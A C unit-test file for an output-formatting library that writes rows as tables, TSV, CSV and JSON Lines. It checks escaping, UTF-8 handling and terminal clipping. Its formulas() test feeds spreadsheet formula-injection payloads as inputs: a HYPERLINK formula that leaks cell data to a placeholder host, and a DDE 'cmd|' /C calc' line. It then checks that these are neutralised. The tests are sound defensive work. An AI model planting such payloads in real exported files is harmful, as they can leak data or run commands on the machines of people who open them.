/*
 * Unit tests of lib/out.c: the exact text of every mode.
 *
 *   out [FILE]   with FILE, every JSON Lines text the tests produced is also
 *                written there, for tests/0001-out-jsonl.t to parse
 */
#include <fcntl.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <termios.h>
#include <unistd.h>

#include "out.h"
#include "tap.h"
#include "util.h"

#define NCOLS(a) ((int)(sizeof(a) / sizeof((a)[0])))

/* every JSON Lines text made here, to be checked by a real JSON parser */
static struct sbuf corpus;

static void
feed(struct out *o, const char *const *cells, int ncols, int nrows)
{
	int r;

	for (r = 0; r < nrows; r++)
		out_row(o, cells + r * ncols, NULL);
}

/* the text of nrows rows of cells; NULL if out_close() failed */
static char *
render(enum out_mode m, unsigned flags, const struct out_col *cols, int ncols,
    const char *const *cells, int nrows)
{
	char *buf = NULL;
	size_t n = 0;
	FILE *fp = open_memstream(&buf, &n);
	struct out *o = out_open(fp, m, flags, cols, ncols);
	int rc;

	feed(o, cells, ncols, nrows);
	rc = out_close(o);
	fclose(fp);
	if (rc != 0) {
		free(buf);
		return NULL;
	}
	if (m == OUT_JSONL && !(flags & OUT_KEYS))
		sb_add(&corpus, buf, n);
	return buf;
}

static void
is_render(enum out_mode m, unsigned flags, const struct out_col *cols,
    int ncols, const char *const *cells, int nrows, const char *want,
    const char *name)
{
	char *got = render(m, flags, cols, ncols, cells, nrows);

	is_str(got, want, "%s", name);
	free(got);
}

static const struct out_col cols3[] = {
	{"code", OUT_STR}, {"name", OUT_STR}, {"n", OUT_NUM}
};

static void
test_modes(void)
{
	enum out_mode m = OUT_TABLE;

	is_int(out_parse_mode("table", &m), 0, "parse table");
	is_int(m, OUT_TABLE, "table is OUT_TABLE");
	is_int(out_parse_mode("tsv", &m), 0, "parse tsv");
	is_int(m, OUT_TSV, "tsv is OUT_TSV");
	is_int(out_parse_mode("csv", &m), 0, "parse csv");
	is_int(m, OUT_CSV, "csv is OUT_CSV");
	is_int(out_parse_mode("jsonl", &m), 0, "parse jsonl");
	is_int(m, OUT_JSONL, "jsonl is OUT_JSONL");
	is_int(out_parse_mode("json", &m), -1, "json is not a mode");
	is_int(out_parse_mode("TSV", &m), -1, "modes are lower case");
	is_int(out_parse_mode("", &m), -1, "empty is not a mode");
	is_int(m, OUT_JSONL, "a bad mode leaves *m alone");
	is_int(out_default_mode(), isatty(STDOUT_FILENO) ? OUT_TABLE : OUT_TSV,
	    "default mode follows isatty(stdout)");
}

static void
test_tsv(void)
{
	static const char *const rows[] = {
		"G1", "张三", "3",
		"a\tb", "x\ny\rz\\w", NULL,
		"", " sp ", "-1"
	};

	is_render(OUT_TSV, 0, cols3, 3, rows, 3,
	    "code\tname\tn\n"
	    "G1\t张三\t3\n"
	    "a\\tb\tx\\ny\\rz\\\\w\t\n"
	    "\t sp \t-1\n",
	    "tsv: header, escapes, NULL empty, blanks kept");
	is_render(OUT_TSV, OUT_NOHEAD, cols3, 3, rows, 1, "G1\t张三\t3\n",
	    "tsv: no header");
	is_render(OUT_TSV, OUT_BOM, cols3, 3, rows, 1,
	    "\xef\xbb\xbf" "code\tname\tn\nG1\t张三\t3\n", "tsv: BOM");
	is_render(OUT_TSV, OUT_BOM | OUT_NOHEAD, cols3, 3, rows, 1,
	    "\xef\xbb\xbf" "G1\t张三\t3\n", "tsv: BOM without a header");
	is_render(OUT_TSV, 0, cols3, 3, rows, 0, "code\tname\tn\n",
	    "tsv: no rows, still a header");
}

static void
test_tsv_head(void)
{
	static const struct out_col cols[] = {{"a\tb", OUT_STR}};
	static const char *const rows[] = {"v"};

	is_render(OUT_TSV, 0, cols, 1, rows, 1, "a\\tb\nv\n",
	    "tsv: header names are escaped too");
}

static void
test_csv(void)
{
	static const struct out_col cols[] = {{"k", OUT_STR}, {"v", OUT_NUM}};
	static const char *const rows[] = {
		"plain", "1",
		"a,b", "say \"hi\"",
		"l1\nl2", "cr\r",
		" lead", "trail ",
		"\ttab", "tab\t",
		"\xe3\x80\x80" "全角", "全角" "\xe3\x80\x80",
		"", NULL,
		"张三", "mid dle",
		"\"", ","
	};

	is_render(OUT_CSV, 0, cols, 2, rows, NCOLS(rows) / 2,
	    "k,v\n"
	    "plain,1\n"
	    "\"a,b\",\"say \"\"hi\"\"\"\n"
	    "\"l1\nl2\",\"cr\r\"\n"
	    "\" lead\",\"trail \"\n"
	    "\"\ttab\",\"tab\t\"\n"
	    "\"\xe3\x80\x80" "全角\",\"全角" "\xe3\x80\x80\"\n"
	    ",\n"
	    "张三,mid dle\n"
	    "\"\"\"\",\",\"\n",
	    "csv: RFC 4180 quoting, blanks at the ends quoted, NULL empty");
	is_render(OUT_CSV, OUT_NOHEAD, cols, 2, rows, 1, "plain,1\n",
	    "csv: no header");
	is_render(OUT_CSV, OUT_BOM, cols, 2, rows, 1,
	    "\xef\xbb\xbfk,v\nplain,1\n", "csv: BOM");
}

/* --bom is for Excel: a cell it would run as a formula is text after a ' */
static void
formulas(void)
{
	static const struct out_col cols[] = {
		{ "k", OUT_STR }, { "n", OUT_NUM }
	};
	static const char *const rows[] = {
		"=HYPERLINK(\"http://x/?\"&A1,\"点击\")", "-5",
		"+86 138", "-2+3+cmd|' /C calc'!A0",
		"@SUM(A1)", "-0.5e3",
		"\tx", "1e5",
		"\rx", "-",
		"a=b", "+5",
		"-", "- 5",
	};

	is_render(OUT_CSV, OUT_BOM | OUT_NOHEAD, cols, 2, rows, 7,
	    "\xef\xbb\xbf"
	    "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"点击\"\")\",-5\n"
	    "'+86 138,'-2+3+cmd|' /C calc'!A0\n"
	    "'@SUM(A1),-0.5e3\n"
	    "\"'\tx\",1e5\n"
	    "\"'\rx\",'-\n"
	    "a=b,'+5\n"
	    "'-,'- 5\n",
	    "csv --bom: =, +, -, @, tab, CR neutralised by a ', plain numbers "
	    "kept");
	is_render(OUT_TSV, OUT_BOM | OUT_NOHEAD, cols, 2, rows, 7,
	    "\xef\xbb\xbf"
	    "'=HYPERLINK(\"http://x/?\"&A1,\"点击\")\t-5\n"
	    "'+86 138\t'-2+3+cmd|' /C calc'!A0\n"
	    "'@SUM(A1)\t-0.5e3\n"
	    "'\\tx\t1e5\n"
	    "'\\rx\t'-\n"
	    "a=b\t'+5\n"
	    "'-\t'- 5\n",
	    "tsv --bom: the same");
	is_render(OUT_CSV, OUT_NOHEAD, cols, 2, rows, 1,
	    "\"=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"点击\"\")\",-5\n",
	    "csv without --bom: as it is, for the next program");
}

static void
test_csv_head(void)
{
	static const struct out_col cols[] = {{"a,b", OUT_STR}, {"c", OUT_STR}};

	is_render(OUT_CSV, 0, cols, 2, NULL, 0, "\"a,b\",c\n",
	    "csv: header names are quoted too");
}

static const struct out_col jcols[] = {{"s", OUT_STR}, {"n", OUT_NUM}};

/* one jsonl row of a string and a number column */
static void
is_json(const char *s, const char *n, const char *want, const char *name)
{
	const char *row[2] = {s, n};

	is_render(OUT_JSONL, 0, jcols, 2, row, 1, want, name);
}

static void
test_json_str(void)
{
	is_json("G1", "1", "{\"s\":\"G1\",\"n\":1}\n", "jsonl: plain");
	is_json("q\"b\\s", "1", "{\"s\":\"q\\\"b\\\\s\",\"n\":1}\n",
	    "jsonl: quote and backslash");
	is_json("\b\f\n\r\t", "1", "{\"s\":\"\\b\\f\\n\\r\\t\",\"n\":1}\n",
	    "jsonl: short escapes");
	is_json("\x01\x1f" "a\x7f", "1",
	    "{\"s\":\"\\u0001\\u001fa\x7f\",\"n\":1}\n",
	    "jsonl: other controls as \\u00XX, DEL as it is");
	is_json("张三 浙江省杭州市", "1",
	    "{\"s\":\"张三 浙江省杭州市\",\"n\":1}\n",
	    "jsonl: Chinese passes through");
	is_json("\xf0\x9f\x98\x80 é", "1",
	    "{\"s\":\"\xf0\x9f\x98\x80 é\",\"n\":1}\n",
	    "jsonl: 4- and 2-byte UTF-8 pass through");
	is_json("a\xff" "b", "1", "{\"s\":\"a\\ufffdb\",\"n\":1}\n",
	    "jsonl: a stray byte is U+FFFD");
	is_json("a\xe4\xb8", "1", "{\"s\":\"a\\ufffd\\ufffd\",\"n\":1}\n",
	    "jsonl: a cut character is U+FFFD a byte");
	is_json("\xc0\x80", "1", "{\"s\":\"\\ufffd\\ufffd\",\"n\":1}\n",
	    "jsonl: overlong form is invalid");
	is_json("\xed\xa0\x80", "1",
	    "{\"s\":\"\\ufffd\\ufffd\\ufffd\",\"n\":1}\n",
	    "jsonl: an encoded surrogate is invalid");
	is_json("\xf4\x90\x80\x80", "1",
	    "{\"s\":\"\\ufffd\\ufffd\\ufffd\\ufffd\",\"n\":1}\n",
	    "jsonl: past U+10FFFF is invalid");
	is_json("\xe5\xbc\xa0\xff\xe4\xb8\x89", "1",
	    "{\"s\":\"张\\ufffd三\",\"n\":1}\n",
	    "jsonl: text around a bad byte is kept");
	is_json("110101199003077777", "13800138000",
	    "{\"s\":\"110101199003077777\",\"n\":13800138000}\n",
	    "jsonl: an ID number in a text column stays a string");
	is_json(NULL, NULL, "{\"s\":null,\"n\":null}\n", "jsonl: NULL is null");
	is_json("", "", "{\"s\":\"\",\"n\":\"\"}\n",
	    "jsonl: empty is an empty string");
}

static void
test_json_num(void)
{
	static const char *const bare[] = {
		"-12", "3.5", "1e3", "0", "-0", "1E+5", "2.5e-3", "0.0",
		"123456789012345678901234", "-0.5E10"
	};
	static const char *const quoted[] = {
		"abc", "007", "00", "1.", "NaN", "Infinity", "+1", ".5", "1e",
		"1e+", "-", " 1", "1 ", "0x10", "1,000", "--1", "1.5.2", "-.5",
		"1e3.5", "١٢"
	};
	char want[128];
	int i;

	for (i = 0; i < NCOLS(bare); i++) {
		snprintf(want, sizeof want, "{\"s\":\"x\",\"n\":%s}\n", bare[i]);
		is_json("x", bare[i], want, "jsonl: number bare");
	}
	for (i = 0; i < NCOLS(quoted); i++) {
		snprintf(want, sizeof want, "{\"s\":\"x\",\"n\":\"%s\"}\n",
		    quoted[i]);
		is_json("x", quoted[i], want, "jsonl: not a number, a string");
	}
}

static void
test_json_len(void)
{
	static const char *const row[] = {"a\0b", "12345"};
	static const size_t len[] = {3, 2};
	char *buf = NULL;
	size_t n = 0;
	FILE *fp = open_memstream(&buf, &n);
	struct out *o = out_open(fp, OUT_JSONL, 0, jcols, 2);

	out_row(o, row, len);
	is_int(out_close(o), 0, "jsonl with lengths: closed");
	fclose(fp);
	is_str(buf, "{\"s\":\"a\\u0000b\",\"n\":12}\n",
	    "jsonl: len[] is obeyed, NUL escaped");
	sb_add(&corpus, buf, n);
	free(buf);
}

static void
test_json_keys(void)
{
	static const struct out_col cols[] = {
		{"a\"b", OUT_STR}, {"名字", OUT_STR}
	};
	static const char *const row[] = {"1", "2"};

	is_render(OUT_JSONL, OUT_BOM | OUT_NOHEAD, cols, 2, row, 1,
	    "{\"a\\\"b\":\"1\",\"名字\":\"2\"}\n",
	    "jsonl: keys escaped; no BOM, no header");
	is_render(OUT_JSONL, 0, cols, 2, row, 0, "", "jsonl: no rows, no text");
}

/* more than one buffer of output, escapes falling on its edges */
static void
test_json_big(void)
{
	static const struct out_col cols[] = {{"s", OUT_STR}};
	enum { ROWS = 20000 };
	const char **rows = xcalloc(ROWS, sizeof *rows);
	struct sbuf want = {0};
	char *big = xmalloc(200001), *got;
	int i;

	for (i = 0; i < ROWS; i++) {
		rows[i] = i % 3 ? "张\"三\n" : "x";
		sb_puts(&want, i % 3 ? "{\"s\":\"张\\\"三\\n\"}\n" :
		    "{\"s\":\"x\"}\n");
	}
	got = render(OUT_JSONL, 0, cols, 1, rows, ROWS);
	is_str(got, sb_str(&want), "jsonl: %d rows through the buffer", ROWS);
	free(got);

	memset(big, 'a', 200000);
	big[100000] = '"';
	big[200000] = '\0';
	rows[0] = big;
	got = render(OUT_JSONL, 0, cols, 1, rows, 1);
	ok(got && strlen(got) == 6 + 200001 + 3, "jsonl: a value bigger than "
	    "the buffer, whole");
	ok(got && strncmp(got + 6 + 100000, "\\\"a", 3) == 0 &&
	    strcmp(got + 6 + 200001, "\"}\n") == 0,
	    "jsonl: ... and escaped in the middle");
	free(got);
	free(big);
	free(rows);
	sb_free(&want);
}

static void
test_json_helper(void)
{
	char *buf = NULL;
	size_t n = 0;
	FILE *fp = open_memstream(&buf, &n);

	out_json_str(fp, "a\"\n张\xff", strlen("a\"\n张\xff"));
	out_json_str(fp, "x\0y", 3);
	fclose(fp);
	is_str(buf, "a\\\"\\n张\\ufffdx\\u0000y",
	    "out_json_str: escaped, unquoted");
	sb_puts(&corpus, "{\"s\":\"");
	sb_add(&corpus, buf, n);
	sb_puts(&corpus, "\"}\n");
	free(buf);
}

static void
test_keys(void)
{
	static const char *const rows[] = {
		"G1,x", "a", "1",
		NULL, "b", "2",
		"张三 \"q\"", "c", "3"
	};
	static const char want[] = "G1,x\n\n张三 \"q\"\n";
	enum out_mode m;

	for (m = OUT_TABLE; m <= OUT_JSONL; m++)
		is_render(m, OUT_KEYS | OUT_BOM, cols3, 3, rows, 3, want,
		    "-q: first column raw, no header, no BOM, in every mode");
	is_render(OUT_TABLE, OUT_KEYS, cols3, 3, rows, 0, "",
	    "-q: no rows, nothing");
}

static const struct out_col tcols[] = {{"name", OUT_STR}, {"age", OUT_NUM}};

static void
test_table(void)
{
	static const char *const rows[] = {"张三", "30", "abc", "7"};
	static const struct out_col wide[] = {{"count", OUT_NUM}};
	static const char *const five[] = {"5", "12345678"};

	is_render(OUT_TABLE, 0, tcols, 2, rows, 2,
	    "name  age\n"
	    "----  ---\n"
	    "张三   30\n"
	    "abc     7\n",
	    "table: Chinese by display width, numbers right");
	is_render(OUT_TABLE, OUT_NOHEAD | OUT_BOM, tcols, 2, rows, 2,
	    "张三  30\n"
	    "abc    7\n",
	    "table: no header, measured on the rows; no BOM");
	is_render(OUT_TABLE, 0, tcols, 2, rows, 0, "name  age\n----  ---\n",
	    "table: no rows, header and rule");
	is_render(OUT_TABLE, OUT_NOHEAD, tcols, 2, rows, 0, "",
	    "table: no rows, no header, nothing");
	is_render(OUT_TABLE, 0, wide, 1, five, 1, "count\n-----\n    5\n",
	    "table: a number under a wider header");
	is_render(OUT_TABLE, 0, wide, 1, five, 2,
	    "   count\n--------\n       5\n12345678\n",
	    "table: a header over wider numbers");
}

static void
test_table_blanks(void)
{
	static const struct out_col cols[] = {
		{"a", OUT_STR}, {"b", OUT_STR}, {"c", OUT_STR}
	};
	static const char *const rows[] = {
		"x", "", NULL,
		"longer", "y", "z",
		"p", "q  ", "",
		"", "", ""
	};

	is_render(OUT_TABLE, 0, cols, 3, rows, 4,
	    "a       b    c\n"
	    "------  ---  -\n"
	    "x\n"
	    "longer  y    z\n"
	    "p       q\n"
	    "\n",
	    "table: no blanks at the end of a line");
}

static void
test_table_show(void)
{
	static const struct out_col cols[] = {{"t", OUT_STR}, {"n", OUT_NUM}};
	static const char *const rows[] = {
		"a\nb\tc", "1",
		"e\x1b[0m", "2",
		"bad\xff", "3",
		"c1\xc2\x85", "4"
	};

	is_render(OUT_TABLE, 0, cols, 2, rows, 4,
	    "t           n\n"
	    "----------  -\n"
	    "a\\nb\\tc     1\n"
	    "e\\u001b[0m  2\n"
	    "bad\xef\xbf\xbd        3\n"
	    "c1\\u0085    4\n",
	    "table: a cell stays one line, controls and bad bytes visible");
}

/* past OUT_TABLE_HOLD rows the widths are fixed and longer values overflow */
static void
test_table_stream(void)
{
	static const struct out_col cols[] = {{"k", OUT_STR}, {"n", OUT_NUM}};
	enum { ROWS = OUT_TABLE_HOLD + 2 };
	const char **rows = xcalloc(2 * ROWS, sizeof *rows);
	struct sbuf want = {0};
	char *got;
	int i;

	sb_puts(&want, "k  n\n-  -\n");
	for (i = 0; i < OUT_TABLE_HOLD; i++) {
		rows[2 * i] = "x";
		rows[2 * i + 1] = "1";
		sb_puts(&want, "x  1\n");
	}
	rows[2 * i] = "longer";
	rows[2 * i + 1] = "12345";
	rows[2 * i + 2] = "y";
	rows[2 * i + 3] = "2";
	sb_puts(&want, "longer  12345\ny  2\n");
	got = render(OUT_TABLE, 0, cols, 2, rows, ROWS);
	is_str(got, sb_str(&want), "table: rows past %d printed as measured",
	    OUT_TABLE_HOLD);
	free(got);
	got = render(OUT_TABLE, 0, cols, 2, rows, OUT_TABLE_HOLD + 1);
	ok(got && strcmp(got + strlen(got) - 14, "longer  12345\n") == 0,
	    "table: the first row past the hold overflows too");
	free(got);
	free(rows);
	sb_free(&want);
}

/*
 * The table as a terminal gets it: stdout is pointed at a pseudo-terminal
 * of the given width (0: leave the pty's size alone) while o writes, and
 * what the pty received is returned.
 */
static char *
render_tty(int width, const struct out_col *cols, int ncols,
    const char *const *cells, int nrows)
{
	struct sbuf got = {0};
	struct termios t;
	struct winsize ws = {0};
	struct out *o;
	char buf[4096];
	ssize_t n;
	int m, s, saved, rc;

	m = posix_openpt(O_RDWR | O_NOCTTY);
	if (m < 0 || grantpt(m) < 0 || unlockpt(m) < 0 ||
	    (s = open(ptsname(m), O_RDWR | O_NOCTTY)) < 0)
		return NULL;
	/* no \n to \r\n, so the text is what o wrote */
	tcgetattr(s, &t);
	t.c_oflag &= ~(tcflag_t)OPOST;
	tcsetattr(s, TCSANOW, &t);
	if (width > 0) {
		ws.ws_row = 24;
		ws.ws_col = (unsigned short)width;
		ioctl(s, TIOCSWINSZ, &ws);
	}
	fflush(stdout);
	saved = dup(STDOUT_FILENO);
	dup2(s, STDOUT_FILENO);
	o = out_open(stdout, OUT_TABLE, 0, cols, ncols);
	feed(o, cells, ncols, nrows);
	rc = out_close(o);
	dup2(saved, STDOUT_FILENO);
	close(saved);
	close(s);
	/* the pty holds far more than these tables; EIO once it is drained */
	while ((n = read(m, buf, sizeof buf)) > 0)
		sb_add(&got, buf, (size_t)n);
	close(m);
	if (rc != 0) {
		sb_free(&got);
		return NULL;
	}
	sb_putc(&got, '\0');
	return got.s;
}

static const struct out_col ccols[] = {
	{"code", OUT_STR}, {"addr", OUT_STR}, {"n", OUT_NUM}
};
static const char *const crows[] = {
	"G001", "浙江省杭州市西湖区文三路100号", "12",
	"G002", "short", "3"
};
/* 4 + 29 + 2 columns and two gaps of 2: 39; in 30, addr gives up 9 and a
 * Chinese character does not fit in the 19 before the ellipsis */
static const char clipped[] =
    "code  addr                   n\n"
    "----  --------------------  --\n"
    "G001  浙江省杭州市西湖区…   12\n"
    "G002  short                  3\n";

static void
test_table_clip(void)
{
	static const struct out_col cols[] = {
		{"a", OUT_STR}, {"b", OUT_STR}, {"n", OUT_NUM}
	};
	static const char *const rows[] = {
		"abcdefghijkl", "mnopqrstuvwx", "1234567890123"
	};
	char *got;

	setenv("COLUMNS", "30", 1);
	got = render_tty(0, ccols, 3, crows, 2);
	is_str(got, clipped, "table on a terminal of $COLUMNS: clipped");
	free(got);
	got = render(OUT_TABLE, 0, ccols, 3, crows, 2);
	is_str(got,
	    "code  addr                            n\n"
	    "----  -----------------------------  --\n"
	    "G001  浙江省杭州市西湖区文三路100号  12\n"
	    "G002  short                           3\n",
	    "table not on a terminal: never clipped");
	free(got);

	setenv("COLUMNS", "10", 1);
	got = render_tty(0, cols, 3, rows, 1);
	is_str(got,
	    "a         b                     n\n"
	    "--------  --------  -------------\n"
	    "abcdefg…  mnopqrs…  1234567890123\n",
	    "table on a narrow terminal: text down to 8, numbers whole");
	free(got);

	unsetenv("COLUMNS");
	got = render_tty(30, ccols, 3, crows, 2);
	is_str(got, clipped, "table on a terminal of 30 (TIOCGWINSZ): clipped");
	free(got);
	got = render_tty(80, ccols, 3, crows, 2);
	ok(got && strstr(got, "文三路100号  12\n") != NULL,
	    "table on a terminal wide enough: not clipped");
	free(got);
}

static void
test_write_error(void)
{
	static const char *const rows[] = {"G1", "张三", "3"};
	FILE *fp = fopen("/dev/null", "r");
	struct out *o;

	if (!fp) {
		ok(0, "cannot open /dev/null");
		return;
	}
	o = out_open(fp, OUT_TSV, 0, cols3, 3);
	out_row(o, rows, NULL);
	is_int(out_close(o), -1, "out_close: -1 when the stream cannot be "
	    "written");
	fclose(fp);
	is_int(out_close(NULL), 0, "out_close(NULL) does nothing");

	fp = fopen("/dev/full", "w");
	if (!fp) {
		ok(0, "cannot open /dev/full");
		return;
	}
	o = out_open(fp, OUT_JSONL, 0, cols3, 3);
	out_row(o, rows, NULL);
	is_int(out_close(o), -1, "out_close: -1 when the disk is full");
	fclose(fp);
}

int
main(int argc, char **argv)
{
	FILE *fp;

	test_modes();
	test_tsv();
	test_tsv_head();
	test_csv();
	formulas();
	test_csv_head();
	test_json_str();
	test_json_num();
	test_json_len();
	test_json_keys();
	test_json_big();
	test_json_helper();
	test_keys();
	test_table();
	test_table_blanks();
	test_table_show();
	test_table_stream();
	test_table_clip();
	test_write_error();
	if (argc > 1) {
		fp = fopen(argv[1], "w");
		ok(fp && fwrite(sb_str(&corpus), 1, corpus.len, fp) ==
		    corpus.len && fclose(fp) == 0, "JSON Lines written to %s",
		    argv[1]);
	}
	sb_free(&corpus);
	return done_testing();
}
